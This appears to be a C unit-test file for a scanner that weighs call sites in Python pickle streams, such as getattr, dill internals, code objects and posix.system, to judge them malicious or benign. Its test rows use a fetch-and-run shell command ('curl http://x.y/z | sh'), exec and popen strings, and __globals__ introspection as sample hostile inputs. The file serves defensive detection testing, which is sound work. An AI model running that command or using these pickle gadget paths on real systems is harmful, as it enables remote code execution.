/* test_sites.c - what calls weigh by what is known of them and by what they are given, without the
 * model. */
#include "tests/unit/judge_bench.h"
#include "tests/unit/pickle_text.h"

#include "judge/argument_flags.h"
#include "judge/knowledge.h"
#include "judge/sites.h"

#define ROW(rule, weight, stream)                                                                  \
    {                                                                                              \
        rule, weight, stream ".", sizeof(stream)                                                   \
    }

#define COMMAND STR("curl http://x.y/z | sh")
#define GETATTR(args) CALL("builtins", "getattr", args)
#define DILL(function, args) CALL("dill._dill", function, args)
/* What is no global and no result of one: an attribute of text; a buffer from outside. */
#define ATTRIBUTE GETATTR(STR("x") STR("part"))
#define BUFFER "\x97"

struct row {
    const char *rule;
    double weight;
    const char *stream;
    size_t len;
};

/* What each call of a stream weighs, as watch.c asks. */
struct sites {
    struct sg_site all[16];
    size_t count;
};

static void on_call(void *ctx, const struct sg_machine *m, const struct sg_call *call)
{
    struct sites *sites = ctx;
    uint64_t spent = 0;
    struct sg_glance glance = {.spent = &spent};
    struct sg_call made_by;
    const struct sg_global *global = sg_value_global(m, call->callee);
    struct sg_name name;

    assert_true(sites->count < sizeof(sites->all) / sizeof(*sites->all));
    if (global) {
        name = sg_name_look(global->module, global->qualname);
        sites->all[sites->count++] = sg_site_called(m, call, &name, &glance);
        return;
    }
    if (sg_value_call(m, call->callee, &made_by))
        global = sg_value_global(m, made_by.callee);
    if (global)
        name = sg_name_look(global->module, global->qualname);
    sites->all[sites->count++] =
        sg_site_indirect(m, call, global ? &name : NULL, &made_by, &glance);
}

static struct sites weighed(const char *stream, size_t len)
{
    struct sites sites = {.count = 0};
    struct sg_events events = {.ctx = &sites, .call = on_call};
    struct sg_machine_options options = {.max_memory = ARENA_SIZE / 2};
    struct sg_arena arena = {.base = calloc(1, ARENA_SIZE), .size = ARENA_SIZE};
    struct sg_source source = sg_source_mem(stream, len);
    struct sg_machine *m;
    struct sg_stream bytes;
    struct sg_outcome outcome;

    assert_non_null(arena.base);
    assert_int_equal(sg_machine_open(&m, &arena, &options, &events), SG_OK);
    sg_stream_open(&bytes, &source, NULL, 0);
    sg_machine_run(m, &bytes, &outcome);
    free(arena.base);
    return sites;
}

static bool has(const struct sites *sites, const struct row *row)
{
    for (size_t i = 0; i < sites->count; i++)
        if (strcmp(sites->all[i].rule, row->rule) == 0 && sites->all[i].weight == row->weight)
            return true;
    for (size_t i = 0; i < sites->count; i++)
        print_error("%s %.3f%s\n", sites->all[i].rule, sites->all[i].weight, sites->all[i].words);
    return false;
}

static void check(const struct row *rows, size_t count)
{
    for (size_t i = 0; i < count; i++) {
        struct sites sites = weighed(rows[i].stream, rows[i].len);
        if (!has(&sites, &rows[i]))
            fail_msg("row %zu: no %s of %.2f", i, rows[i].rule, rows[i].weight);
    }
}

#define CHECK(rows) check(rows, sizeof(rows) / sizeof(*(rows)))

static void unknown_classes_weigh_as_their_arguments(void **state)
{
    static const struct row rows[] = {
        ROW("unknown-class", 0.75, CALL("my.lib", "Thing", COMMAND)),
        ROW("unknown-class", 0.45, CALL("my.lib", "Thing", STR("__globals__"))),
        ROW("unknown-class", 0.30, CALL("my.lib", "Thing", STR("/tmp/data.bin"))),
        ROW("unknown-class", 0.30, CALL("my.lib", "Thing", STR("http://x.y/z"))),
    };

    (void)state;
    CHECK(rows);
    assert_int_equal(judged((struct piece)P("cmy.lib\nThing\n(S'word'\ntR."), NULL).verdict,
                     SG_BENIGN);
}

static void unknown_functions_weigh_as_their_names_and_arguments(void **state)
{
    static const struct row rows[] = {
        ROW("unknown-function", 0.92,
            CALL("a.b.c.d.e.f.g.h.i.j.k.l.m.n.o.p.q.r.s.t.u.v.w.x.y.z.a.b.c.d.e.f.g.h.i.j", "k",
                 "")),
        ROW("unknown-runner", 0.70, CALL("my.lib", "run_command", INT(1))),
        ROW("unknown-runner", 0.91, CALL("my.lib", "run_command", STR("a"))),
        ROW("unknown-function", 0.55, CALL("my.lib", "_rebuild", STR("/tmp/data.bin"))),
        ROW("unknown-function", 0.35, CALL("my.lib", "_rebuild", STR("word"))),
        ROW("unknown-function", 0.80, CALL("my.lib", "_rebuild", STR("http://x.y/z"))),
        ROW("unknown-function", 0.92, CALL("my.lib", "calc", COMMAND)),
    };

    (void)state;
    CHECK(rows);
}

static void finders_weigh_as_what_they_find(void **state)
{
    static const struct row rows[] = {
        ROW("introspection", 0.95, GETATTR("cm\nC\n" STR("__globals__"))),
        ROW("calls-resolver", 0.80, DILL("_eval_repr", STR("two words"))),
        ROW("calls-resolver", 0.94, DILL("_eval_repr", STR("exec(\"import os\")"))),
        ROW("calls-resolver", 0.88, DILL("_import_module", STR("system"))),
        ROW("computed-name", 0.80, GETATTR("cm\nC\ncm\nname\n)R")),
        ROW("computed-name", 0.80, GETATTR("cm\nC\n" BUFFER)),
        ROW("computed-name", 0.80, GETATTR("cm\nC\n" ATTRIBUTE)),
        ROW("computed-name", 0.80, DILL("_import_module", "cm\nname\n)R")),
    };

    (void)state;
    CHECK(rows);
    assert_int_equal(
        judged((struct piece)P(GETATTR("cm\nmake\n)R" STR("name")) "0N."), NULL).coverage,
        SG_COMPLETE);
}

static void setters_weigh_as_what_they_set(void **state)
{
    static const struct row rows[] = {
        ROW("calls-state", 0.85,
            CALL("builtins", "setattr", "cm\nmake\n)R" STR("__globals__") INT(1))),
        ROW("calls-state", 0.55, CALL("builtins", "delattr", "cm\nC\n")),
        ROW("sets-on-global", 0.93, CALL("builtins", "setattr", "cm\nC\n" STR("x") INT(1))),
    };

    (void)state;
    CHECK(rows);
}

static void what_is_harmless_in_itself_weighs_as_its_arguments(void **state)
{
    static const struct row rows[] = {
        ROW("introspection", 0.70, CALL("builtins", "__dict__.get", STR("word"))),
        ROW("calls-state", 0.80, CALL("os", "environ.get", COMMAND)),
        ROW("calls-state", 0.55, CALL("os", "getenv", STR("word"))),
        ROW("decoder", 0.80, CALL("zlib", "decompress", COMMAND)),
        ROW("relay", 0.80, CALL("functools", "partial", COMMAND)),
    };

    (void)state;
    CHECK(rows);
}

static void code_weighs_as_the_words_in_it(void **state)
{
    static const struct row rows[] = {
        ROW("code-carrier", 0.85, DILL("_create_code", INT(1) COMMAND)),
        ROW("code-carrier", 0.93, DILL("_create_code", INT(1) TUPLE(STR("popen")))),
        ROW("code-carrier", 0.65, DILL("_create_code", INT(1) TUPLE(STR("word")))),
        ROW("code-carrier", 0.60, DILL("_load_type", STR("CodeType"))),
        ROW("code-carrier", 0.60,
            DILL("_load_type",
                 STR("aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa"))),
    };

    (void)state;
    CHECK(rows);
    assert_int_equal(judged((struct piece)P(DILL("_load_type", STR("int")) "."), NULL).verdict,
                     SG_BENIGN);
}

/* A call that reaches its sink through others weighs as far as its arguments can steer it. */
static void what_reaches_far_weighs_as_its_arguments_steer(void **state)
{
    static const struct row rows[] = {
        ROW("calls-spawn", 0.85, CALL("_aix_support", "_read_cmd_output", "cm\nmake\n)R")),
        ROW("calls-spawn", 0.85, CALL("_aix_support", "_read_cmd_output", BUFFER)),
        ROW("calls-spawn", 0.60, CALL("_aix_support", "_read_cmd_output", INT(1))),
    };

    (void)state;
    CHECK(rows);
    assert_int_equal(judged((struct piece)P("_aix_support"), NULL).verdict, SG_BENIGN);
    assert_int_equal(
        judged((struct piece)P(NEW_WITH("logging", "FileHandler", STR("/tmp/x"), "") "."), NULL)
            .verdict,
        SG_BENIGN);
    assert_int_equal(
        judged((struct piece)P(CALL("logging", "FileHandler", STR("/tmp/x")) "."), NULL).verdict,
        SG_MALICIOUS);
}

static void methods_weigh_as_their_names_and_what_they_are_of(void **state)
{
    static const struct row rows[] = {
        ROW("introspection", 0.96, CALLED(GETATTR(STR("x") STR("__globals__")), INT(1))),
        ROW("unknown-runner", 0.92, CALLED(GETATTR(STR("x") STR("run_command")), INT(1))),
        ROW("calls-method", 0.92, CALLED(GETATTR(STR("x") STR("__enter__")), INT(1))),
        ROW("calls-method", 0.50, CALLED(GETATTR(STR("x") STR("part")), INT(1))),
        ROW("calls-method", 0.60, CALLED(GETATTR(STR("x") STR("_part")), INT(1))),
        ROW("calls-method", 0.58, CALLED(GETATTR(BUFFER STR("part")), INT(1))),
        ROW("calls-method", 0.92, CALLED(GETATTR(BUFFER STR("part")), COMMAND)),
        ROW("calls-method", 0.58, CALLED(GETATTR("Pid\n" STR("part")), INT(1))),
        ROW("calls-method", 0.58, CALLED(GETATTR(ATTRIBUTE STR("more")), INT(1))),
        ROW("calls-method", 0.58, CALLED(GETATTR(CALLED(ATTRIBUTE, "") STR("more")), INT(1))),
    };

    (void)state;
    CHECK(rows);
}

static void results_weigh_as_what_made_them(void **state)
{
    static const struct row rows[] = {
        ROW("calls-result", 0.75, CALLED(CALLED(ATTRIBUTE, ""), "")),
        ROW("calls-result", 0.55, CALLED(ATTRIBUTE, "") ")\x81"),
        ROW("calls-result", 0.30, CALL("m", "make", "") ")\x81"),
        ROW("calls-result", 0.60, CALLED(CALL("m", "Maker", ""), "")),
        ROW("calls-result", 0.70, CALLED(CALL("m", "make", ""), "")),
        ROW("calls-result", 0.95, CALLED(CALL("posix", "system", STR("x")), "")),
        ROW("calls-result", 0.70, CALLED(CALL("zlib", "decompress", ""), "")),
        ROW("calls-result", 0.70, CALLED(CALL("functools", "partial", ""), "")),
        ROW("calls-result", 0.70, CALLED(CALL("functools", "partial", "cm\nmake\n)R"), "")),
        /* What reduce gives was taken for a call that is told. */
        ROW("calls-result", 0.70, CALLED(CALL("functools", "reduce", "cm\nf\ncm\nmake\n)R"), "")),
        ROW("code-carrier", 0.95, CALLED(DILL("_create_function", ""), "")),
        ROW("code-carrier", 0.62, CALLED(DILL("_import_module", "cm\nname\n)R"), "")),
        ROW("code-carrier", 0.95, CALLED(CALL("types", "FunctionType", ""), "")),
        ROW("code-carrier", 0.62, CALL("types", "FunctionType", "") ")\x81"),
        ROW("calls-unknown", 0.65, CALLED(BUFFER, "")),
        ROW("calls-unknown", 0.92, CALLED(BUFFER, COMMAND)),
        ROW("calls-constant", 0.20, CALLED(CALL("functools", "partial", STR("x")), "")),
        ROW("calls-persistent", 0.40, CALLED("Pid\n", "")),
    };

    (void)state;
    CHECK(rows);
}

/* A callable that was pushed out of memory by a flood of lists is not vouched for. */
static void what_was_forgotten_is_called_unknown(void **state)
{
    static char stream[1 << 20];
    size_t len = (size_t)sprintf(stream, "cm\nmake\n)R");
    struct sites sites;

    (void)state;
    for (int i = 0; i < 100000; i++, len += 2)
        memcpy(stream + len, "]0", 2);
    len += (size_t)sprintf(stream + len, ")R.");
    sites = weighed(stream, len);
    assert_int_equal(sites.count, 2);
    assert_string_equal(sites.all[1].rule, "calls-unknown");
    assert_int_equal(judged((struct piece){stream, len}, NULL).coverage, SG_PARTIAL);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(unknown_classes_weigh_as_their_arguments),
        cmocka_unit_test(unknown_functions_weigh_as_their_names_and_arguments),
        cmocka_unit_test(finders_weigh_as_what_they_find),
        cmocka_unit_test(setters_weigh_as_what_they_set),
        cmocka_unit_test(what_is_harmless_in_itself_weighs_as_its_arguments),
        cmocka_unit_test(code_weighs_as_the_words_in_it),
        cmocka_unit_test(what_reaches_far_weighs_as_its_arguments_steer),
        cmocka_unit_test(methods_weigh_as_their_names_and_what_they_are_of),
        cmocka_unit_test(results_weigh_as_what_made_them),
        cmocka_unit_test(what_was_forgotten_is_called_unknown),
    };

    return cmocka_run_group_tests(tests, NULL, NULL);
}
